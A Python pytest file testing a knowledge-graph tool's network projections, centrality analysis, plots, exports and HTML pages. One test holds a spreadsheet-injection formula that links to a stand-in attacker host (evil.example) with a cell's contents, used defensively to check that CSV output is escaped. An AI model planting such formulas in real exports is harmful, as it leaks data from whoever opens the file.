"""NetworkX export and projections, centrality analysis, plots, and the HTML page options."""

from __future__ import annotations

import csv
import io
import json
import re

import networkx as nx
import pytest
from conftest import FIXTURES

from kg.analysis.measures import EXACT_BETWEENNESS_MAX_NODES, analyze
from kg.analysis.trends import papers_per_year
from kg.cli import main
from kg.errors import UsageError
from kg.export.files import write_graph
from kg.export.html import render_page
from kg.graph import KnowledgeGraph
from kg.network.projections import projection
from kg.network.readmodel import filtered, load_graph_data
from kg.records import AuthorRef, Record, SourceRef


def paper(title, authors, line, **fields):
    return Record(title=title, authors=tuple(AuthorRef(a) for a in authors), source=SourceRef("p.txt", line, "test"),
                  **fields)  # fmt: skip


@pytest.fixture(scope="module")
def graph() -> KnowledgeGraph:
    return KnowledgeGraph.from_records([
        paper("One", ["Ann Lee", "Bo Chen", "Cy Diaz"], 1, categories=("LG",), date="2020-01-01", orgs=("mila",)),
        paper("Two", ["Ann Lee", "Bo Chen"], 2, categories=("LG", "CL"), date="2021", orgs=("deepmind",)),
        paper("Three", ["Ann Lee", "Di Eno"], 3, categories=("CL",), date="2021-05",
              authors_truncated=False, orgs=("mila", "deepmind")),
        paper("Four", ["Ed Fox"], 4, date="2019"),
    ])  # fmt: skip


@pytest.fixture(scope="module")
def data(graph):
    return load_graph_data(graph)


def test_typed_graph_has_chosen_edges_only(data):
    g = projection(data, "full")
    assert {d["predicate"] for _, _, d in g.edges(data=True)} == {"authored", "citesTopic", "affiliated"}
    assert {d["type"] for _, d in g.nodes(data=True)} == {"paper", "author", "topic", "org"}
    assert not any("kg/ontology" in str(n) or "Source" in str(n) for n in g)  # no classes or sources as nodes
    assert g.number_of_nodes() == 4 + 5 + 2 + 2


def test_coauthor_projection_weights_and_papers(data):
    g = projection(data, "coauthor")
    labels = {n: d["label"] for n, d in g.nodes(data=True)}
    edges = {frozenset((labels[a], labels[b])): d for a, b, d in g.edges(data=True)}
    assert edges[frozenset(("Ann Lee", "Bo Chen"))]["weight"] == 2
    assert edges[frozenset(("Ann Lee", "Bo Chen"))]["papers"] == "One; Two"
    assert edges[frozenset(("Ann Lee", "Di Eno"))]["weight"] == 1
    assert "Ed Fox" in labels.values() and g.degree(next(n for n in g if labels[n] == "Ed Fox")) == 0


def test_org_topic_and_author_topic_projections(data):
    org = projection(data, "org")
    assert [d["weight"] for _, _, d in org.edges(data=True)] == [1]  # mila and deepmind share "Three"
    topic = projection(data, "topic")
    assert [d["weight"] for _, _, d in topic.edges(data=True)] == [1]  # LG and CL share "Two"
    author_topic = projection(data, "author-topic")
    ann = next(n for n, d in author_topic.nodes(data=True) if d["label"] == "Ann Lee")
    assert sorted(d["weight"] for _, _, d in author_topic.edges(ann, data=True)) == [2, 2]
    with pytest.raises(UsageError):
        projection(data, "nope")


@pytest.mark.parametrize("extension", ["graphml", "gexf"])
def test_exports_load_back(data, tmp_path, extension):
    for name in ("full", "coauthor"):
        original = projection(data, name)
        path = tmp_path / f"{name}.{extension}"
        write_graph(original, str(path))
        loaded = nx.read_graphml(path) if extension == "graphml" else nx.read_gexf(path)
        assert loaded.number_of_nodes() == original.number_of_nodes()
        assert loaded.number_of_edges() == original.number_of_edges()
        assert {d.get("label") for _, d in loaded.nodes(data=True)} == {
            d["label"] for _, d in original.nodes(data=True)
        }
    with pytest.raises(UsageError, match=r"\.graphml, \.gexf, \.json or \.net"):
        write_graph(original, str(tmp_path / "x.csv"))


def test_analysis_ranks_the_hub_first(data):
    result = analyze(projection(data, "coauthor"), top=3)
    assert result.ranking[0]["label"] == "Ann Lee"
    assert result.ranking[0]["degree"] == 3 and result.ranking[0]["weighted_degree"] == 4.0
    assert set(result.ranking[0]) >= {"betweenness", "closeness", "pagerank", "eigenvector", "community"}
    assert result.components == [4, 1]
    assert "closeness computed for the 3 nodes shown only" in result.methods[0]
    assert result.approximations == []  # every measure of a 5-node graph is exact


def test_analysis_repeats_and_samples_large_graphs():
    graph = nx.barabasi_albert_graph(800, 2, seed=1)
    for node in graph:
        graph.nodes[node].update(label=f"n{node}", type="author")
    first, second = (analyze(graph, top=5, exact_betweenness_max=600) for _ in range(2))
    assert first.ranking == second.ranking and first.communities == second.communities
    assert any("betweenness estimated from 500 sampled sources (seed 42)" in a for a in first.approximations)
    exact = analyze(graph, top=5)
    assert not any("betweenness" in a for a in exact.approximations) and EXACT_BETWEENNESS_MAX_NODES > 800


def test_papers_per_year(data):
    assert papers_per_year(data)["Machine Learning"] == {2020: 1, 2021: 1}
    assert papers_per_year(data, author="ann lee") == {"Ann Lee": {2020: 1, 2021: 2}}


def test_analyze_command(graph, tmp_path, capsys):
    path = tmp_path / "g.ttl"
    graph.save(path)
    assert main(["analyze", str(path), "--top", "2"]) == 0
    out = capsys.readouterr().out
    assert "Ann Lee" in out and "Largest communities" in out and "Papers per year" in out
    assert main(["analyze", str(path), "--json", "--author", "Ann Lee"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["ranking"][0]["label"] == "Ann Lee" and result["papers_per_year"]["author"]["Ann Lee"]["2021"] == 2
    assert main(["analyze", str(path), "--csv", "--projection", "org"]) == 0
    assert capsys.readouterr().out.splitlines()[0].startswith("rank,label,type,degree")
    plot = tmp_path / "plot.png"
    assert main(["analyze", str(path), "--plot", str(plot)]) == 0
    assert plot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and plot.stat().st_size > 10_000


def test_plots_read_at_a_glance(tmp_path):
    from kg.analysis.plots import plot_analysis

    ranking = [{"label": f"Author {n}", "pagerank": value} for n, value in enumerate([0.25, 0.0159, 0.01589, 0.0136])]
    topics = {f"topic {n}": {2019: n, 2020: n + 2, 2021: 1} for n in range(6)}
    topics["topic 0"] = {1937: 1, 2019: 30, 2020: 40}  # one stray early paper
    plot = tmp_path / "plot.svg"
    plot_analysis(ranking, topics, plot)
    text = plot.read_text(encoding="utf-8")
    # Values that differ are labelled differently; the stray year is left out and counted; six series, six panels.
    assert all(label in text for label in ("0.25000", "0.01590", "0.01589", "0.01360"))
    assert "1 paper(s) before 2019 not shown" in text and ">1937<" not in text
    assert all(f"topic {n}" in text for n in range(6))


def test_export_command(graph, tmp_path, capsys):
    path = tmp_path / "g.nq"
    graph.save(path)
    assert main(["export", str(path), "-o", str(tmp_path / "co.gexf"), "--projection", "coauthor"]) == 0
    assert "5 nodes, 4 edges" in capsys.readouterr().err
    assert nx.read_gexf(tmp_path / "co.gexf").number_of_nodes() == 5


def test_viz_options(graph, tmp_path, capsys):
    capped = render_page(graph, max_nodes=5)
    assert 0 < capped.shown <= 5 and capped.total == 13
    assert f"showing the {capped.shown} most central of 13 nodes" in capped.notes[0]
    focused = render_page(graph, projection="coauthor", focus="Di Eno", depth=1)
    assert focused.shown == 2
    recent = render_page(graph, projection="coauthor", since=2021)
    assert recent.shown == 3 and "papers from 2021 on" in recent.notes
    with pytest.raises(UsageError, match="no node has that name"):
        render_page(graph, focus="Nobody")
    path = tmp_path / "g.ttl"
    graph.save(path)
    out = tmp_path / "page.html"
    assert main(["viz", str(path), "-o", str(out), "--projection", "coauthor"]) == 0
    assert "5 of 5 nodes" in capsys.readouterr().err
    html = out.read_text(encoding="utf-8")
    assert not any(marker in html for marker in ('src="http', 'href="http', "cdnjs", "jsdelivr", "<script src"))
    assert main(["viz", str(path), "-o", str(tmp_path / "page.txt")]) == 2


def test_seed_owner_is_most_central(seeds):
    from kg.pipeline import build

    data = load_graph_data(build([str(seeds / "001_335dda869a054df8.txt")], topics=None).graph)
    for measure in ("pagerank", "degree", "betweenness", "eigenvector"):
        assert analyze(projection(data, "coauthor"), top=1, sort_by=measure).ranking[0]["label"] == "Kelvin Xu"


def test_hostile_labels_in_exports(tmp_path):
    evil = KnowledgeGraph.from_records([paper('<x a="1">&amp;\x0b', ["A <b>"], 1)])
    for extension in ("graphml", "gexf"):
        write_graph(projection(load_graph_data(evil), "full"), str(tmp_path / f"e.{extension}"))
        reader = nx.read_graphml if extension == "graphml" else nx.read_gexf
        assert reader(tmp_path / f"e.{extension}").number_of_nodes() == 2


def test_fixture_pages(tmp_path):
    from kg.pipeline import build

    graph = build([str(FIXTURES / "profile_sample.txt")]).graph
    assert render_page(graph, projection="topic").shown > 0


def test_igraph_engine_gives_networkx_figures_on_large_graphs(monkeypatch):
    """Above COMPILED_MIN_NODES igraph computes the costly measures; the figures must be NetworkX's."""
    import random

    import igraph  # noqa: F401  (a dependency of kg: this test must run, not skip)
    import networkx as nx

    import kg.analysis.measures as analysis

    graph = nx.connected_watts_strogatz_graph(600, 6, 0.2, seed=1)
    weights = random.Random(3)
    for a, b in graph.edges():
        graph[a][b]["weight"] = weights.randint(1, 4)
    for node in graph:
        graph.nodes[node].update(type="author", label=f"author {node:03d}")
    by_networkx = analysis.analyze(graph, top=15, exact_betweenness_max=300)
    monkeypatch.setattr(analysis, "COMPILED_MIN_NODES", 100)
    by_igraph = analysis.analyze(graph, top=15, exact_betweenness_max=300)
    assert any("igraph" in method for method in by_igraph.methods)
    assert not any("igraph" in line for line in by_igraph.approximations)  # exact figures are no approximation
    assert [r["label"] for r in by_igraph.ranking] == [r["label"] for r in by_networkx.ranking]
    for ours, theirs in zip(by_igraph.ranking, by_networkx.ranking, strict=True):
        assert ours["pagerank"] == pytest.approx(theirs["pagerank"], abs=2e-4)
        assert ours["eigenvector"] == pytest.approx(theirs["eigenvector"], abs=1e-3)  # NetworkX stops at tol 1e-6
        assert ours["closeness"] == pytest.approx(theirs["closeness"], abs=1e-4)
        assert ours["betweenness"] == pytest.approx(theirs["betweenness"], abs=2e-3)
    assert abs(len(by_igraph.communities) - len(by_networkx.communities)) <= 3


def test_a_view_reads_only_what_it_needs_and_gives_the_same_figures(seeds):
    """kg analyze reads the parts of the graph its view needs: the same ranking as from a whole read."""
    from kg.analysis import report
    from kg.network.projections import parts_of
    from kg.pipeline import build

    graph = build([str(path) for path in sorted(seeds.iterdir())], topics="none").graph
    whole = load_graph_data(graph)
    for view in ("coauthor", "topic", "org", "full"):
        part = load_graph_data(graph, parts_of(view))
        assert sorted(projection(part, view).edges(data=True)) == sorted(projection(whole, view).edges(data=True))
        assert (
            report(graph, projection=view, top=0).analysis.ranking
            == analyze(projection(whole, view, titles=False), top=0, directed=False).ranking
        )
    coauthors_only = load_graph_data(graph, parts_of("coauthor"))
    assert not coauthors_only.paper_orgs and whole.paper_orgs  # the seeds have orgs: left unread, not lost
    with pytest.raises(ValueError, match="without paper_orgs"):
        projection(coauthors_only, "org")


def test_sampled_betweenness_is_the_same_on_one_core_and_on_several(monkeypatch):
    """Sampled betweenness runs in forked processes where there are cores: the figures must not depend on it."""
    import networkx as nx

    import kg.analysis.measures as analysis

    graph = nx.connected_watts_strogatz_graph(1500, 6, 0.2, seed=2)
    several = analysis.Centralities(graph, exact_betweenness_max=300)["betweenness"]
    monkeypatch.setattr(analysis.os, "cpu_count", lambda: 1)
    one = analysis.Centralities(graph, exact_betweenness_max=300)["betweenness"]
    assert several == one and max(one.values()) > 0


def nquads(*statements: tuple[str, str, str, str]) -> str:
    """N-Quads of (subject, predicate, object, graph); ``kg:``, ``rdf:`` and ``ex:`` names and literals as given."""
    names = {"kg:": "https://w3id.org/kg/ontology#", "rdf:": "http://www.w3.org/1999/02/22-rdf-syntax-ns#",
             "ex:": "https://ex.org/", "xsd:": "http://www.w3.org/2001/XMLSchema#"}  # fmt: skip

    def term(text: str) -> str:
        if text.startswith('"'):
            value, _, datatype = text.partition("^^")
            return value + (f"^^{term(datatype)}" if datatype else "")
        prefix = text[: text.index(":") + 1]
        return f"<{names[prefix]}{text[len(prefix) :]}>"

    return "".join(" ".join(term(t) for t in statement) + " .\n" for statement in statements)


def test_read_model_takes_the_year_kg_chose_and_indexes_each_paper(tmp_path):
    path = tmp_path / "tiny.nq"
    path.write_text(nquads(
        ("ex:paper/1", "rdf:type", "kg:Paper", "ex:g"),
        ("ex:paper/1", "kg:title", '"Merged"', "ex:g"),
        ("ex:paper/1", "kg:date", '"2019-12"^^xsd:gYearMonth', "ex:g"),
        ("ex:paper/1", "kg:year", '"2020"^^xsd:integer', "ex:g"),
        ("ex:paper/2", "rdf:type", "kg:Paper", "ex:g"),
        ("ex:paper/2", "kg:abstract", '"An untitled paper, labelled by its abstract."', "ex:g"),
        ("ex:author/ann", "rdf:type", "kg:Author", "ex:g"),
        ("ex:author/ann", "kg:name", '"Ann Lee"', "ex:g"),
        ("ex:author/ann", "kg:authored", "ex:paper/1", "ex:g"),
        ("ex:author/ann", "kg:authored", "ex:paper/1", "ex:h"),
        ("ex:author/ann", "kg:authored", "ex:paper/2", "ex:g"),
    ), encoding="utf-8")  # fmt: skip
    data = load_graph_data(str(path))  # a path is opened like GRAPH on the command line
    one, two, ann = "https://ex.org/paper/1", "https://ex.org/paper/2", "https://ex.org/author/ann"
    assert data.papers[one].year == 2020 and data.papers[one].date == "2019-12"  # kg:year, not the date's year
    assert data.papers[two].year is None and data.papers[two].label == "An untitled paper, labelled by its abstract."
    assert data.authored == ((ann, one), (ann, two))  # the statement held by two graphs counts once
    assert data.authors_of[one] == (ann,) and data.papers_of[ann] == (one, two)
    recent = filtered(data, since=2020)
    assert list(recent.papers) == [one] and recent.papers_of[ann] == (one,)
    assert data.papers_of[ann] == (one, two) and len(data.papers) == 2  # filtering left data as it was
    assert papers_per_year(data, author="ann lee") == {"Ann Lee": {2020: 1}}


def test_page_sizes_by_the_centrality_analyze_reports(graph, data):
    from kg.analysis.measures import CENTRALITIES, centrality

    view = projection(data, "coauthor")
    for measure in CENTRALITIES:
        values = centrality(view, measure)
        ranked = analyze(view, top=0, sort_by=measure).ranking
        column = "degree_centrality" if measure == "degree" else measure
        assert {row["node"]: row[column] for row in ranked} == pytest.approx(
            {n: round(v, 4) for n, v in values.items()}, abs=1e-4
        )
        best = sorted(view, key=lambda n: (-values[n], n))[:2]
        page = render_page(graph, projection="coauthor", max_nodes=2, size_by=measure)
        shown = json.loads(re.search(r'id="kg-data">(.*?)</script>', page.html, re.S).group(1))["nodes"]
        assert {node["id"] for node in shown} == set(best)
    with pytest.raises(UsageError, match="size_by must be one of"):
        render_page(graph, size_by="closeness")


def test_tooltips_notes_and_messages_name_options_by_keyword(graph, tmp_path, capsys):
    from kg.errors import render

    page = render_page(graph, max_nodes=5)
    assert "raise max_nodes" in page.notes[0]
    assert render(page.notes[0], lambda name: "--max-nodes").endswith("(by pagerank; raise --max-nodes)")
    full = render_page(graph)
    assert "Authors: Ann Lee, Bo Chen, Cy Diaz" in full.html and "Topics: Machine Learning" in full.html
    with pytest.raises(UsageError) as caught:
        render_page(graph, focus="Nobody")
    assert caught.value.option == "focus" and "--" not in str(caught.value)
    path = tmp_path / "g.ttl"
    graph.save(path)
    assert main(["viz", str(path), "-o", str(tmp_path / "p.html"), "--max-nodes", "5"]) == 0
    assert "raise --max-nodes" in capsys.readouterr().err
    # The page a kg viz user opens names the flag too, not the Python keyword.
    shown = (tmp_path / "p.html").read_text(encoding="utf-8")
    assert "raise --max-nodes" in shown and "raise max_nodes" not in shown
    assert main(["viz", str(path), "-o", str(tmp_path / "p.html"), "-q"]) == 0
    assert main(["export", str(path), "-o", str(tmp_path / "g.graphml"), "-q"]) == 0
    assert capsys.readouterr().err == ""
    assert main(["analyze", str(path), "--author", "Nobody"]) == 1  # an error line means a failed exit status
    assert "kg: error: --author 'Nobody': no author of that name" in capsys.readouterr().err


def test_outputs_are_checked_before_the_graph_is_read(tmp_path):
    from kg.analysis import report
    from kg.export.files import export_graph
    from kg.export.html import save_page

    missing = str(tmp_path / "no-such-graph.ttl")  # never opened: the output is refused first
    with pytest.raises(UsageError, match=r"the export is written as \.graphml, \.gexf, \.json or \.net, not \.csv"):
        export_graph(missing, tmp_path / "g.csv")
    with pytest.raises(UsageError, match=r"the page is written as \.html or \.htm, not \.png"):
        save_page(missing, tmp_path / "g.png")
    with pytest.raises(UsageError, match=r"a plot is written as \.png, \.svg or \.pdf, not \.gif"):
        report(missing, plot=tmp_path / "g.gif")
    with pytest.raises(UsageError, match="does not exist"):
        save_page(missing, tmp_path / "nowhere" / "g.html")


def test_report_is_analyze_in_one_call(graph, tmp_path):
    from kg.analysis import report

    result = report(graph, top=2, author="Nobody", since=2021, plot=tmp_path / "p.svg")
    assert result.analysis.ranking[0]["label"] == "Ann Lee" and result.analysis.nodes == 3
    assert result.papers_per_year["topics"]["Machine Learning"] == {2021: 1}
    assert result.papers_per_year["author"] == {} and result.problems[0].option == "author"
    assert result.plot == str(tmp_path / "p.svg") and (tmp_path / "p.svg").read_bytes().startswith(b"<?xml")
    assert result.to_dict()["projection"] == "coauthor"


def test_the_ranking_fits_a_narrow_terminal(graph, tmp_path, monkeypatch):
    import io
    import os
    import shutil

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    path = tmp_path / "g.ttl"
    graph.save(path)
    monkeypatch.setattr(shutil, "get_terminal_size", lambda *a, **k: os.terminal_size((80, 24)))
    monkeypatch.setenv("COLUMNS", "80")
    out = Terminal()
    assert main(["analyze", str(path), "--top", "3"], out=out) == 0
    text = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue())  # a terminal gets bold headers
    assert "narrow terminal: some measures left out" in text and "eigenvector" not in text
    assert "closeness" not in text  # nor how the measure left out was computed
    assert "\nTop 3 authors by pagerank\n" in text  # a title without the spaces of the table's width
    ranking = text.split("Top 3", 1)[1].split("Largest communities", 1)[0].splitlines()[1:]
    assert max(len(line) for line in ranking) <= 80 and "Ann Lee" in text  # names and numbers whole


def test_papers_per_year_of_many_years_are_spread_over_lines_not_cut(tmp_path, monkeypatch, capsys):
    records = [paper(f"Paper {year}", ["Ann Lee"], year, categories=("LG",), date=str(year))
               for year in range(1995, 2021)]  # fmt: skip
    path = tmp_path / "g.ttl"
    KnowledgeGraph.from_records(records).save(path)
    monkeypatch.setenv("COLUMNS", "80")
    assert main(["analyze", str(path), "--top", "1"]) == 0
    table = capsys.readouterr().out.split("Papers per year", 1)[1]
    assert "…" not in table and max(len(line) for line in table.splitlines()) <= 80
    assert all(f"{year}: 1" in table for year in range(1995, 2021))  # every year, none cut


def test_approximations_of_a_csv_ranking_are_said_on_stderr(graph, tmp_path, capsys, monkeypatch):
    from kg.analysis import measures, reports

    # Betweenness sampled above 2 nodes, as above 3,000 by default.
    monkeypatch.setattr(reports, "analyze", lambda view, **options: measures.analyze(view, exact_betweenness_max=2,
                                                                                     **options))  # fmt: skip
    path = tmp_path / "g.ttl"
    graph.save(path)
    assert main(["analyze", str(path), "--csv"]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("rank,label") and "approximation" not in out  # the CSV is the ranking alone
    assert "kg: note: approximation: betweenness estimated from" in err


def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path, capsys):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    records = [paper("One", [formula, "Bo Chen"], 1), paper("Two", ["@SUM(1+1)", "Bo Chen"], 2)]
    graph = KnowledgeGraph.from_records(records)
    path = tmp_path / "g.ttl"
    graph.save(path)
    assert main(["analyze", str(path), "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    labels = {row[1] for row in rows[1:]}
    assert labels == {"'" + formula, "'@SUM(1+1)", "Bo Chen"}


def test_igraph_gets_the_typed_graphs_edges_from_its_arrays_as_from_networkx():
    import random

    import networkx as nx
    import numpy as np

    from kg.analysis.measures import _undirected_arrays, _undirected_edges

    generator = random.Random(7)
    for _ in range(300):
        n = generator.randint(1, 9)
        added = [(generator.randrange(n), generator.randrange(n), generator.choice([0.0, 0.5, 1.0, 2.0, 3.5]))
                 for _ in range(generator.randint(0, 25))]  # fmt: skip
        graph = nx.DiGraph()
        graph.add_nodes_from(range(n))
        graph.add_weighted_edges_from(added)
        expected = [(a, b, float(w or 1.0)) for a, b, w in _undirected_edges(graph)]
        source = np.array([a for a, _, _ in added], dtype=np.int64)
        target = np.array([b for _, b, _ in added], dtype=np.int64)
        weight = np.array([w for _, _, w in added], dtype=float)
        edges, weights = _undirected_arrays(n, source, target, weight)
        assert [(int(a), int(b), w) for (a, b), w in zip(edges.tolist(), weights, strict=True)] == expected, added
